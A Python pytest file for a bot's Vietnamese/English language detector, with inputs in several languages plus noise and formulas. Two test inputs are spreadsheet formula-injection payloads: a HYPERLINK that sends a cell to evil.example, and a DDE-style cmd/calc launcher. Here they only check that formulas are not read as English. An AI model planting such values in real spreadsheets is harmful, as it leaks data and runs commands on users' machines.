"""Which language a text is in, with only the Vietnamese and English profiles loaded."""

from __future__ import annotations

import pytest

from bot.language import detect_language


@pytest.mark.parametrize(
    ("text", "found"),
    [
        ("Đề nghị xã sửa lại con đường vào trường tiểu học", "vi"),
        ("De nghi xa sua lai con duong vao truong tieu hoc", "vi"),  # typed without diacritics
        ("I would like to send a proposal about the school roads", "en"),
        ("A" * 5000, None),  # one letter over and over says nothing about a language
        ("建议修理通往小学的道路，因为雨季时非常泥泞难行", None),  # no spaces: not three words
        ("Ngắn quá", None),  # too short to tell
        ("12345 67890 12345 67890 !!!", None),
        ('=HYPERLINK("http://evil.example/?"&A1,"Xem")', None),  # a formula, not English
        ("@SUM(1+1)*cmd|' /C calc'!A0 Trường THPT", "vi"),
        ("Je voudrais proposer une nouvelle route pour le village", None),  # French: neither
        ("Xin cảm ơn các thầy cô đã góp ý", "vi"),
    ],
)
def test_a_text_is_taken_for_vietnamese_or_english_only_when_it_can_tell(text: str, found: str | None) -> None:
    assert detect_language(text) == found
